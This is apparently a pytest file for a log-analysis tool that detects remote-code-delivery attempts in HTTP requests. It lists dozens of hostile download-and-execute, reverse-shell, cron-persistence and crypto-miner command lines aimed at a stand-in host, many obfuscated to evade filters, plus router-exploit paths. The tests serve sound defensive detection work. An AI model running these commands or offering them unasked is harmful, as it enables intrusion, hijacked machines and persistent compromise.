"""A command line is read as a command line: what it does counts, however it is spelled, and where it stands."""

from __future__ import annotations

import base64
import time
from urllib.parse import quote

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kanaria.core import schema
from kanaria.mining.candidates import rows_of_records
from kanaria.mining.deeds import read
from kanaria.mining.payload import enrich

URL = "http://203.0.113.66/x.sh"
WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
HIDDEN = base64.b64encode(f"curl -s {URL}|sh".encode()).decode()

DELIVERIES = {
    "pipe": f"curl -s {URL}|sh",
    "pipe with blanks": f"wget -q -O - {URL} | sudo nohup bash -s x",
    "either of two": f"(curl -fsSL {URL}||wget -qO- {URL})|sh",
    "to a file": f"wget -O /tmp/a {URL}",
    "to a file, short": f"curl -fsSLo /tmp/a {URL}",
    "to a file, long": f"curl --output /tmp/a {URL}",
    "to a file, redirected": f"curl {URL}>/tmp/x.sh",
    "here": f"cd /tmp;wget {URL};chmod +x x.sh;./x.sh",
    "without a scheme": "wget 203.0.113.66/x;sh x",
    "busybox": "busybox tftp -g -r x 203.0.113.66;sh x",
    "command inside": f'bash -c "$(curl -fsSL {URL})"',
    "backticks": f"eval `curl {URL}`",
    "process substitution": f"bash <(curl -s {URL})",
    "field separator": f"wget${{IFS}}-qO-${{IFS}}{URL}|sh",
    "quotes": f"w'g'et {URL}|s\"\"h",
    "backslash": f"c\\url {URL}|sh",
    "parameter": f"cu$@rl {URL}|s$@h",
    "number": f"cu${{9}}rl {URL}|sh",
    "variables": f"a=cu;b=rl;$a$b {URL}|sh",
    "wildcards": f"/???/b?n/c??l {URL}|/b?n/s?",
    "brackets": f"/bin/c[u]rl {URL}|sh",
    "braces": f"{{curl,-s,{URL}}}|sh",
    "ansi": f"$'\\x63\\x75\\x72\\x6c' {URL}|$'\\x73\\x68'",
    "printf": "printf '" + "".join(f"\\{ord(c):03o}" for c in f"curl {URL}|sh") + "'|sh",
    "base64": f"echo {HIDDEN}|base64 -d|bash",
    "base64 elsewhere": f"base64 -d /tmp/.a|bash || echo {HIDDEN} | openssl base64 -d | sh",
    "base32": f"echo {base64.b32encode(f'curl {URL}|sh'.encode()).decode()}|base32 -d|sh",
    "hexadecimal": f"echo {f'curl {URL}|sh'.encode().hex()}|xxd -r -p|sh",
    "backwards": f"echo '{f'curl {URL}|sh'[::-1]}'|rev|sh",
    "device": "exec 3<>/dev/tcp/203.0.113.66/80;cat<&3|sh",
    "netcat": "nc 203.0.113.66 80 < r | sh",
    "shell handed out": "nc -e /bin/sh 203.0.113.66 4444",
    "python": f"python3 -c 'import urllib.request as u;exec(u.urlopen(\"{URL}\").read())'",
    "perl": f"perl -e 'use LWP::Simple;eval get(q({URL}))'",
    "php": f"php -r 'eval(file_get_contents(\"{URL}\"));'",
    "powershell": "powershell -nop -w hidden -e " + base64.b64encode(f"iex (iwr {URL})".encode("utf-16-le")).decode(),
    "powershell in the clear": f"powershell IEX(New-Object Net.WebClient).DownloadString('{URL}')",
    "certutil": f"certutil.exe -urlcache -split -f {URL} c:/x.exe",
    "mshta": f"mshta {URL}",
    "a name's text record": "dig +short txt a.example.org | tr -d x | sh",
    "a name's text record, of another program": "nslookup -q=txt a.example.org | bash",
    "gawk's connection": 'gawk \'BEGIN{s="/inet/tcp/0/203.0.113.66/80";print "GET /" |& s;while((s|&getline l)>0)print l}\'|sh',
    "ruby opens an address": f"ruby -ropen-uri -e 'eval(URI.open(\"{URL}\").read)'",
    "marks that cmd leaves out": f"c^e^r^t^u^t^i^l -urlcache -split -f {URL} x.exe",
    "cmd": f'cmd /c "bitsadmin /transfer a {URL} c:/x.exe"',
    "cron": f'(crontab -l; echo "* * * * * wget -q -O - {URL} | sh") | crontab -',
    "miner": f"./xmrig -o pool.example.org:3333 -u {WALLET} -p x",
    "miner by its options": "nohup ./kthreadd --donate-level 1 -o pool.example.org:443 -k --tls &",
    "java": f'Runtime.getRuntime().exec("wget {URL} -O /tmp/a")',
    "groovy": f'"wget -qO /tmp/a {URL}".execute()',
    "list": f"{{'wget','{URL}'}}",
    "xml": f"<string>/bin/bash</string><string>-c</string><string>curl {URL}|sh</string>",
    "sql": f"COPY t FROM PROGRAM 'echo {HIDDEN}|base64 -d|bash';",
}
HARMLESS = (
    "how to use wget and curl to fetch things; an introduction",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) curl/8",
    "a|b|c & d; e",
    "curl: (6) could not resolve host",
    "/docs/curl-and-wget.html",
    "base64 -d is a command; bash is another",
    "echo hello | cat",
    "dig +short txt example.org",
    "dig example.org | sh",
    "nslookup -q=txt example.org | grep spf",
    "^(curl|wget)$ and a^b^c",
    "python -m http.server",
    "SELECT * FROM users WHERE name = 'sh' OR 1=1; --",
    "Let's rock'n'roll & drink",
    f"wallet {WALLET} is mine",
)


@pytest.mark.parametrize("name", DELIVERIES)
def test_what_brings_a_program_is_a_delivery_however_it_is_spelled(name: str) -> None:
    assert read(DELIVERIES[name]).delivers()


@pytest.mark.parametrize("text", HARMLESS)
def test_words_without_deeds_are_no_delivery(text: str) -> None:
    assert not read(text).delivers()


def asked(url: str, **more: object) -> dict[str, object]:
    raw = f'203.0.113.7 - - [10/Nov/2026:10:00:00 +0000] "GET {url} HTTP/1.1" 200 150 "-" "Mozilla/5.0"'.encode()
    table = schema.from_rows("http", [{"url": url, "method": "GET", "raw": raw, **more}])
    return {str(key): value for key, value in enrich(table).to_pylist()[0].items()}


@pytest.mark.parametrize("name", DELIVERIES)
@pytest.mark.parametrize("before", ["", ";", "127.0.0.1|"])
def test_a_delivery_in_a_parameter_is_found_in_the_log(name: str, before: str) -> None:
    """Nominated from the line as Apache writes it, decoded, and read."""
    url = "/a.cgi?zz=" + quote(before + DELIVERIES[name], safe="")
    assert "deliver" in str(asked(url)["payload.does"])


@given(
    st.sampled_from(sorted(DELIVERIES)),
    st.sampled_from(["&q=curl", "&z=://%25s", "&z=/HNAP1", "&s=wget", "&text=x", "&u=Mozi.m"]),
)
def test_nothing_in_another_parameter_excuses_a_delivery(name: str, other: str) -> None:
    found = asked("/a.cgi?zz=" + quote(DELIVERIES[name], safe="") + other)
    assert "deliver" in str(found["payload.does"])
    assert found["payload.aim"] is None


@pytest.mark.parametrize(
    ("url", "delivers"),
    [
        ("/share?text=curl%20-sSL%20https%3A%2F%2Finstall.example.org%20%7C%20bash", False),
        ("/?s=wget+-qO-+https%3A%2F%2Fraw.example.org%2Finstall.sh+%7C+bash", False),
        ("/preview?code=wget%20https%3A%2F%2Fexample.com%2Fi.sh%20%26%26%20chmod%20%2Bx%20i.sh", False),
        ("/?s=curl+http%3A%2F%2F203.0.113.9%2Fa%7Csh", True),
        ("/?s=x%3Bcurl+https%3A%2F%2Fexample.com%2Fa%7Csh", True),
        ("/?text=%22wget+https%3A%2F%2Fexample.com%2Fa+-O+%2Ftmp%2Fa%22.execute()", True),
        ("/a?cmd=curl%20-sSL%20https%3A%2F%2Finstall.example.org%20%7C%20bash", True),
        ("/a?exePath=sh&params=-c&params=curl%20-s%20http://203.0.113.9/x.sh%7Csh", True),
        ("/a?args=curl%20-s%20http://203.0.113.9/x.sh%7Csh", True),
        ("/a?opts=wget%20-O%20/tmp/a%20http://203.0.113.9/x.sh", True),
    ],
)
def test_a_pasted_installer_is_no_delivery_and_an_attack_in_a_search_field_is(url: str, delivers: bool) -> None:
    assert ("deliver" in str(asked(url)["payload.does"])) is delivers


def test_a_body_of_json_is_read_member_by_member() -> None:
    body = b'{"Image":"alpine","Cmd":["sh","-c","wget -qO- http://203.0.113.9/x|sh"],"q":"curl"}'
    assert "deliver" in str(asked("/containers/create", request_body=body)["payload.does"])


@pytest.mark.parametrize("path", ["/shell?cd+/tmp;wget+http://203.0.113.9/mips;sh+mips", "/GponForm/diag_Form?images/",
                                  "/bin/zhttpd/${IFS}cd${IFS}/tmp;${IFS}wget${IFS}http://203.0.113.9/mips;./mips"])  # fmt: skip
def test_the_path_says_that_a_router_is_meant(path: str) -> None:
    assert asked(path)["payload.aim"] == "router"


@pytest.mark.parametrize("piece", ["$(", "`", "'", '"', "a=b;", "${x}", "{a,b}", "|sh", "\\", "echo x|rev|", "<(", ">"])
def test_hostile_lines_cost_little(piece: str) -> None:
    started = time.process_time()
    read(piece * (8_192 // len(piece)))
    assert time.process_time() - started < 3


@given(st.text(max_size=300))
def test_any_text_has_bounded_deeds(text: str) -> None:
    deeds = read(text)
    assert len(deeds.remotes) <= 300
    assert isinstance(
        rows_of_records(pa.chunked_array([pa.array([text.encode("utf-8", "replace")], pa.binary())])), tuple
    )
